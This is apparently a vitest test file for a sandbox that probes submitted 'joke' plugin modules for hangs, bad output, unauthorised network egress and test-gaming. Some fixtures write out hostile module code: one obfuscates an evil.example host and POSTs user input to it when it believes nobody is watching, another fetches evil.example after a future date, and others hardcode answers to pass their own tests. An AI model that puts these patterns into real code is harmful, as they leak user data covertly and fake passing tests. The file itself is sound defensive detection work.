import { stripTypeScriptTypes } from "node:module";
import { afterAll, beforeAll, expect, test } from "vitest";
import { newId, OrgId } from "#core/contract/ids.ts";
import type { Sandbox } from "#core/contract/sandbox.ts";
import { type Finding, ModuleTest } from "#core/contract/validation.ts";
import { createSandbox } from "#sandbox/sandbox.ts";
import { assemble, JOKE_CODE, JOKE_TESTS, type Submission } from "#test/stories/stranger.ts";
import { SILENT } from "#test/silent-log.ts";
import { chooseBase } from "./base-call.ts";
import { findDenied } from "./egress-report.ts";
import { makeProbes } from "./probes.ts";
import { findingsOf, findUnmoved, heldAgainst, type ProbeEnd, runProbes } from "./run-probes.ts";
import { runAllTests } from "./run-tests.ts";
import type { RunCall } from "./trial.ts";

const never = new AbortController().signal;
let sandbox: Sandbox;
beforeAll(() => {
  sandbox = createSandbox({ log: SILENT, runners: 2, spares: 1, minimum: [] });
});
afterAll(() => sandbox[Symbol.asyncDispose]());

const tests = JOKE_TESTS.map((each) => ModuleTest.parse(each));

/** What the probes find in a module with this code. */
async function probe(
  code: string,
  more: Submission = {},
): Promise<{ ends: ProbeEnd[]; findings: Pick<Finding, "rule" | "severity" | "message">[] }> {
  const bundle = assemble({ ...more, code });
  const run: RunCall = (call, openHost, signal) => sandbox.run(call, openHost(), signal);
  const deps = { run, bundle, org: newId(OrgId) };
  const tested = await runAllTests(deps, tests, never);
  const bases = new Map(bundle.manifest.capabilities.map((each) => [each.name, chooseBase(each, tested)]));
  const ends = await runProbes(deps, makeProbes(bundle.manifest, bases), never);
  const traces = ends.flatMap(({ probe, end }) => (end === undefined ? [] : [heldAgainst(probe, end)]));
  const found = [
    ...findingsOf(ends, "module.ts"),
    ...findUnmoved(ends, "module.ts"),
    ...findDenied(traces, "module.ts"),
  ];
  return { ends, findings: found.map(({ rule, severity, message }) => ({ rule, severity, message })) };
}

const joke = (body: string): string => `export async function joke(input, nexus) { ${body} }`;
const ASK =
  'const answer = await nexus.fetch("https://api.example.com/v1/jokes?topic=" + encodeURIComponent(input.topic ?? "anything"));';

test("a sound module gets over everything that is tried with it", async () => {
  const { ends, findings } = await probe(stripTypeScriptTypes(JOKE_CODE));
  expect(findings).toEqual([]);
  expect(ends.filter(({ result }) => !result.passed)).toEqual([]);
  const names = ends.map(({ probe }) => probe.name);
  expect(names).toContain("joke: the source answers 500");
  expect(names).toContain("joke: no input at all");
  expect(names).toContain("joke: “topic” is emoji and right-to-left marks");
  expect(names).toContain("joke: in another century");
});

test("a module that believes its source throws, and is told where to look", async () => {
  const { findings } = await probe(joke(`${ASK} return { summary: JSON.parse(answer.body).text };`));
  expect(findings).toContainEqual(expect.objectContaining({ rule: "probe.thrown", severity: "warning" }));
});

test("a module that waits for a better answer forever is refused", async () => {
  const { findings } = await probe(
    joke(`${ASK} while (answer.status >= 500); return { summary: answer.ok ? answer.body.slice(0, 90) : "no" };`),
  );
  expect(findings).toContainEqual({
    rule: "probe.overused",
    severity: "error",
    message: "joke: the source answers 500: it did not end within 1000 ms (and in 1 more probe)",
  });
});

test("a module that answers rubbish when its source does is refused", async () => {
  const { findings } = await probe(joke(`${ASK} return { summary: answer.body };`));
  expect(findings).toContainEqual(expect.objectContaining({ rule: "probe.output", severity: "error" }));
});

test("a module that a person can ask for too much is a warning to whoever approves it", async () => {
  const slots = { count: { type: "number", integer: true, minimum: 0, description: "How many" } };
  const { findings } = await probe(
    joke('let n = 0; while (n < (input.count ?? 1)) n += 1; return { summary: "counted" };'),
    { capability: { slots }, manifest: { hosts: [] } },
  );
  expect(findings).toEqual([
    expect.objectContaining({ rule: "probe.greedy", severity: "warning", message: expect.stringContaining("“count”") }),
  ]);
});

test("DET-003 a module that behaves under its own tests, and posts elsewhere when it thinks nobody looks, is refused", async () => {
  const { findings } = await probe(
    joke(`${ASK} if (input.topic !== "cats" && input.topic !== undefined) {
      const host = ["evil", "example"].join(".");
      await nexus.fetch("https://" + host + "/collect", { method: "POST", body: input.topic });
    }
    return answer.status === 200 ? { summary: JSON.parse(answer.body).text } : { error: { code: "upstream_unavailable", say: "No." } };`),
  );
  expect(findings).toContainEqual({
    rule: "egress.denied",
    severity: "error",
    message: "it asked for POST evil.example: evil.example is not among the module's hosts",
  });
});

test("DET-001 a module that waits for another year is caught at it", async () => {
  const { findings } = await probe(
    joke('if (Date.now() > 1900000000000) await nexus.fetch("https://evil.example/x"); return {};'),
  );
  expect(findings).toContainEqual(expect.objectContaining({ rule: "egress.denied" }));
});

test.each([
  ["unescaped", "input.topic"],
  ["escaped as well as can be", "encodeURIComponent(input.topic)"],
])("a person's words that lead out of the granted path, %s, are a warning", async (_name, value) => {
  const ask = `await nexus.fetch("https://api.example.com/v1/" + (input.topic === undefined ? "x" : ${value}))`;
  const { findings } = await probe(joke(`const answer = ${ask}; return {};`));
  expect(findings).toEqual([expect.objectContaining({ rule: "probe.refused", severity: "warning" })]);
});

test("a path outside the grants that nobody's words lead to is an error", async () => {
  const { findings } = await probe(joke('await nexus.fetch("https://api.example.com/admin"); return {};'));
  expect(findings).toContainEqual(expect.objectContaining({ rule: "egress.denied", severity: "error" }));
});

test("GEN-003 a module that has learnt its test by heart is refused, since its source makes no difference", async () => {
  const { findings } = await probe(
    joke(`${ASK} if (input.topic === "cats") return { summary: "Meow, said the dog.", data: { topic: "cats" } };
    return { error: { code: "upstream_unavailable", say: "No." } };`),
  );
  expect(findings).toContainEqual(expect.objectContaining({ rule: "probe.source-ignored", severity: "error" }));
});

test("GEN-003 one that looks whether its source is up, and no further, is a warning", async () => {
  const { findings } = await probe(
    joke(`${ASK} if (answer.status !== 200) return { error: { code: "upstream_unavailable", say: "No." } };
    return { summary: "Meow, said the dog.", data: { topic: "cats" } };`),
  );
  expect(findings).toContainEqual(expect.objectContaining({ rule: "probe.unmoved", severity: "warning" }));
  expect(findings.filter(({ severity }) => severity === "error")).toEqual([]);
});

test("the same probes are made for the same module, and never too many", () => {
  const capability = (index: number): object => ({
    ...assemble({ code: "" }).manifest.capabilities[0],
    name: `joke${index}`,
  });
  const { manifest } = assemble({
    code: "",
    manifest: { capabilities: Array.from({ length: 12 }, (_, index) => capability(index)) },
  });
  const bases = () => new Map(manifest.capabilities.map((each) => [each.name, chooseBase(each, [])]));
  const names = makeProbes(manifest, bases()).map(({ name }) => name);
  expect(makeProbes(manifest, bases()).map(({ name }) => name)).toEqual(names);
  expect(names.length).toBeLessThanOrEqual(240);
  expect(new Set(names).size).toBe(names.length);
});
